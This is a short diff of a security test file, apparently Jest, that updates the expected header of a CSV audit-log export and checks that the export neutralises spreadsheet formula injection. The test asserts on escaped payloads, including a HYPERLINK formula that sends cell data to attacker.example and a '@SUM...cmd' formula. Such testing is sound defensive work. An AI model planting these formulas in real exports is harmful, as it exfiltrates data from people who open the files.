@@ -192,7 +192,7 @@ describe('security: hostile input and quotas', () => {
       expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
       expect(res.headers.get('content-disposition')).toMatch(/attachment/);
       const lines = res.text.trimEnd().split('\r\n');
-      expect(lines[0]).toBe('id,at,actorId,actorName,action,targetType,targetId,ip,details');
+      expect(lines[0]).toBe('id,at,actorId,actorName,action,targetType,targetId,ip,details,targetName');
       expect(res.text).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""open"")"`);
       expect(res.text).toContain(",'@SUM(1+1)*cmd,");
       // no cell of any line starts with a formula character
